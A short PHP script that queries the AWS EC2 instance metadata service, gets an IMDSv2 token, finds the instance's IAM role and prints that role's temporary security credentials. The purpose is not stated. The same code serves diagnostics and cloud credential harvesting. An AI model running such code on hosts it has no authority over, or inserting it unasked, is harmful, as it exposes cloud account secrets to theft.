<?php // SPDX-License-Identifier: Apache-2.0
function ask($method, $path, $header) {
	$context = stream_context_create(["http" => ["method" => $method, "header" => $header, "timeout" => 5]]);
	return file_get_contents("http://169.254.169.254/latest/" . $path, false, $context);
}

$token = ask("PUT", "api/token", "X-aws-ec2-metadata-token-ttl-seconds: 60");
$header = "X-aws-ec2-metadata-token: " . $token;
$role = ask("GET", "meta-data/iam/security-credentials/", $header);
echo ask("GET", "meta-data/iam/security-credentials/" . $role, $header), "\n";
